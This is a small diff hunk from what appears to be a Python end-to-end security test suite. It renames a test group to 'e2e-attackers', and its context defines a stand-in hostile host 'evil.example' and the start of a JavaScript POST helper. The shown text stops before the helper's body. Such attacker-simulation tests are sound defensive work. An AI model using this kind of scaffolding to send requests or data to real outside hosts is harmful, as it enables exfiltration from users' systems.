@@ -26,7 +26,7 @@ from flows.runtime.gate import SECONDS_A_LINK_LIVES, Links
 from flows.runtime.server import RunningServer, ServerChild, announced, free_port, is_healthy
 from flows.settings import Settings
 
-pytestmark = [pytest.mark.xdist_group("e2e-commands"), pytest.mark.timeout(600)]
+pytestmark = [pytest.mark.xdist_group("e2e-attackers"), pytest.mark.timeout(600)]
 
 EVIL = "evil.example"
 POST = """async ([url, how]) => {
